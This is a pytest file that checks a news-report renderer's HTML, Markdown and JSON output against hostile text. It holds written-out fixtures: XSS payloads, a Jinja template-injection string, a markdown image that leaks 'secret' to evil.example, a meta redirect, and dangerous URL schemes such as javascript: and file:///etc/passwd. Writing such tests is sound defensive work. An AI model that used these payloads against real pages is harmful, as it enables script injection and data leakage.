"""Strangers' text in every place and every format: it shows, and does nothing."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

import reports
from monitor.comparison import compare
from monitor.model import Gap, Image, PostCitation, Report, StoryId
from monitor.text import clean
from reports import RENDERERS, SUFFIX
from reports.isolation import balanced, isolated, visible, web_address
from tests.builders import post, understood
from tests.dom import page_of
from tests.sample_report import (
    CLAIMS,
    GAP,
    GROUPS,
    RELATED,
    REPORTING,
    ROWS,
    STORY,
    brief,
    cite,
    group,
    group_claim,
    report,
)

TEXTS = {
    "script": "<script>alert(1)</script>",
    "closing script": "</script><script>alert(1)</script>",
    "closing style": "</style><script>alert(1)</script>",
    "closing title": "</title><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single quoted attribute": "' autofocus onfocus='alert(1)",
    "cdata": "]]><script>alert(1)</script>",
    "comment": "--><!-- hide everything",
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "base": "<base href=//evil.example/>",
    "svg": "<svg/onload=alert(1)>",
    "entity": "&#x3C;script&#x3E;alert(1)&lt;/script&gt;",
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# gone #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {posts} {0} %s",
    "markdown image": "![x](https://evil.example/p.png?d=secret)",
    "markdown link": "[x](javascript:alert(1)) [y]: javascript:alert(1)",
    "markdown blocks": "# Fake heading\n\n- item\n\n---\n\n| a | b |\n|---|---|\n| c | d |",
    "bare address": "see https://evil.example/x, www.evil.example and me@evil.example",
    "override": "abc\u202ecba",
    "closing isolate": "a\u2069\u2069b\u202c",
    "separators": "\u2028alert(1)\u2029",
    "controls": "a\x01\x1b[31mred\x85\x0b\x0c\x7fb",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "marks": "Z" + "\u0301" * 200,
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "flags": "🏳️‍🌈🇺🇸🇺",
    "hebrew": "שלום <b>עולם</b>",
    "long": "A" * 100_000,
    "many emoji": "😀" * 25_000,
}  # fmt: skip
NOT_LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
    "blob:https://x/1", "//evil.example/x", "\\\\evil.example", "https:\\\\evil.example", "http://", "https:///x",
    "http://[::1", "http://a b.example", "mailto:a@b.example", "https://user:pass@evil.example/",
    "https://news.example@evil.example/", "https://evil.example:port/", "", "x", "https://evil\u202e.example/",
    "https://a.example/\u200bx",
]  # fmt: skip


def everywhere(text: str, url: str = "https://x.example/1") -> Report:
    """The report with `text` in every place that a stranger can fill."""
    row = understood(post("h1", text=text, url=url))
    quote = PostCitation(post=row.post.id, url=url, quote=text[:400], language="en")
    claims = (
        CLAIMS[0],
        replace(REPORTING, words=(("outlets", (text[:200], "b")),), citations=(quote,)),
        group_claim("h1", quote, cite("p1"), voices=3, of=14, tone="negative", label=(text[:100], "b")),
        *CLAIMS[2:],
    )
    gap = replace(GAP, reason=text[:200])
    hostile = brief(
        claims=claims, gaps=(gap, Gap(source=text[:100], query=text[:100], since=None, until=None, reason="")),
        groups=(group("h1", quote, label=(text[:100], "b")), *GROUPS),
    )  # fmt: skip
    about = replace(
        STORY, title=text, lead=text, body=text, publisher=text, url=url,
        image=Image(url=url, caption=text, ai_generated=False),
    )  # fmt: skip
    made = report(about, rows=(*ROWS, row), brief=hostile)
    # Some of these texts would be withheld for what they hold; here each must stand on the page.
    cited = tuple(
        replace(one, text=text, author=text[:200], withheld=False) if one.post == row.post.id else one
        for one in made.cited
    )
    source = replace(made.sources[0], source=text[:100], problem=text)
    other = replace(RELATED[0], story=StoryId(text[:100]), title=text, line=text, words=(text[:100], "b"))
    before = brief(groups=(group("h2", None, label=(text[:100], "b")),), gaps=(replace(GAP, source=text[:100]),))
    return replace(
        made, cited=cited, notes=(text,), sources=(source,), related=(other,), changes=compare(before, hostile)
    )


def harmless(text: str) -> str:
    """As many words of as many letters, so that as much fits on a page, and nothing in them that means anything."""
    return re.sub(r"\S", "w", text)


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page with the names of their attributes; what may differ with a text is left out."""
    ignored = {"mark", "p"}  # a post may be cut, and then says so
    return [(tag, tuple(sorted(attributes))) for tag, attributes in page_of(html).elements if tag not in ignored]


@pytest.mark.parametrize("name", TEXTS)
def test_no_text_adds_an_element_or_attribute_to_the_page(name: str) -> None:
    text = clean(TEXTS[name])
    assert shape(RENDERERS["html"](everywhere(text))) == shape(RENDERERS["html"](everywhere(harmless(text))))


@pytest.mark.parametrize("name", [name for name in TEXTS if name not in {"long", "many emoji"}])
def test_every_text_reads_on_the_page_as_it_was_written(name: str) -> None:
    text = clean(TEXTS[name])
    shown = page_of(RENDERERS["html"](everywhere(text))).text
    expected = visible(balanced(text))
    assert shown.count(expected) >= 5


@pytest.mark.parametrize("name", TEXTS)
def test_no_text_adds_anything_to_the_markdown(name: str) -> None:
    def kinds(text: str) -> list[str]:
        parsed = (
            MarkdownIt("commonmark")
            .enable(["table", "strikethrough"])
            .parse(RENDERERS["markdown"](everywhere(text)))
        )
        tokens = [token.type for block in parsed for token in (block, *(block.children or ()))]
        return [kind for kind in tokens if kind not in {"text", "text_special"}]

    text = clean(TEXTS[name])
    assert kinds(text) == kinds(harmless(text))


@pytest.mark.parametrize("name", TEXTS)
def test_every_text_comes_back_from_the_json(name: str) -> None:
    text = clean(TEXTS[name])
    document = json.loads(RENDERERS["json"](everywhere(text)))
    assert document["story"]["title"] == text
    assert [cited["text"] for cited in document["cited"] if cited["post"] == "h1"] == [text]


@pytest.mark.parametrize("url", NOT_LINKS)
def test_only_web_addresses_become_links(url: str) -> None:
    assert web_address(url) is None
    made = everywhere("plain words only", url)
    hrefs = [link["href"] for link in page_of(RENDERERS["html"](made)).all("a")]
    ours = ("#", "report.", "https://x.example/", "https://news.example/", f"../{RELATED[0].folder}/report.")
    assert all(href.startswith(ours) for href in hrefs)
    if url:
        assert url not in hrefs


@pytest.mark.parametrize(
    ("url", "becomes"),
    [
        ("https://news.example/a?b=1&c=2#d", "https://news.example/a?b=1&c=2#d"),
        ("HTTPS://News.Example:8443/a", "https://news.example:8443/a"),
        ("http://[2001:db8::1]/", "http://[2001:db8::1]/"),
        ("https://xn--80ak6aa92e.com/", "https://xn--80ak6aa92e.com/"),
        ("https://gооgle.example/", "https://xn--ggle-55da.example/"),  # two Cyrillic letters
        ("https://blåbær.example/å", "https://xn--blbr-roah.example/å"),
    ],
)
def test_a_look_alike_host_is_shown_in_punycode(url: str, becomes: str) -> None:
    assert web_address(url) == becomes
    assert re.search(r'rel="noopener noreferrer nofollow"', RENDERERS["html"](everywhere("x", url)))


@pytest.mark.parametrize(
    "text", ["\u202e", "\u2067a", "a\u2069", "\u202aa\u2066b\u202cc\u2069\u202c\u202c", "\u2066\u202e\u2069"]
)
def test_isolated_text_closes_what_it_opens_and_nothing_else(text: str) -> None:
    depth = 0
    made = isolated(text)
    assert made[0] == "\u2068"
    for char in made:
        depth += (char in "\u2066\u2067\u2068\u202a\u202b\u202d\u202e") - (char in "\u2069\u202c")
        assert depth >= 0
    assert depth == 0


def test_ordinary_text_is_left_alone() -> None:
    assert isolated("blåbær 배 “x”") == "blåbær 배 “x”"
    assert visible("a\tb\nc") == "a\tb\nc"


# --- Every format --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", RENDERERS)
def test_the_same_report_gives_the_same_bytes(name: str) -> None:
    assert RENDERERS[name](report()).encode() == RENDERERS[name](report()).encode()


@pytest.mark.parametrize("name", RENDERERS)
def test_every_format_can_say_any_text(name: str) -> None:
    for text in TEXTS.values():
        assert RENDERERS[name](everywhere(clean(text))).encode()


def test_no_two_formats_share_a_file() -> None:
    assert len(set(SUFFIX.values())) == len(RENDERERS)


def test_a_new_format_is_one_file_and_one_line(tmp_path: Path) -> None:
    root = Path(reports.__file__).parent.parent
    for package in ("monitor", "jobs", "reports", "tests"):
        shutil.copytree(
            root / package, tmp_path / package, ignore=shutil.ignore_patterns("__pycache__", "data", "gold")
        )
    (tmp_path / "reports" / "shout.py").write_text("def render(report):\n    return report.story.title.upper()\n")
    table = tmp_path / "reports" / "__init__.py"
    line = '    "json": _of("json"),\n'
    table.write_text(table.read_text().replace(line, f'{line}    "shout": _of("shout"),\n'))
    ask = (
        "from jobs.publish import rendered; from tests.sample_report import report; "
        "print(rendered(report())['report.shout'])"
    )
    done = subprocess.run([sys.executable, "-c", ask], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert done.stdout.startswith("COUNTY CLOSES THE SUNDVIK FERRY")


# --- The corpora's fixtures ------------------------------------------------------------------------


@pytest.mark.corpora
def test_naughty_strings_add_nothing(corpora: Path) -> None:
    fixtures = corpora.parent / "fixtures"
    if not fixtures.is_dir():
        return  # the corpora may stand alone
    texts = json.loads((fixtures / "naughty" / "blns.json").read_text())
    texts += (fixtures / "xss" / "payloads.txt").read_text().splitlines()
    markdown = MarkdownIt("commonmark").enable(["table", "strikethrough"])

    def blocks(text: str) -> list[str]:
        return [token.type for token in markdown.parse(RENDERERS["markdown"](everywhere(text)))]

    for start in range(0, len(texts), 40):
        text = clean(" ".join(texts[start : start + 40]))
        assert shape(RENDERERS["html"](everywhere(text))) == shape(RENDERERS["html"](everywhere(harmless(text))))
        assert blocks(text) == blocks(harmless(text))
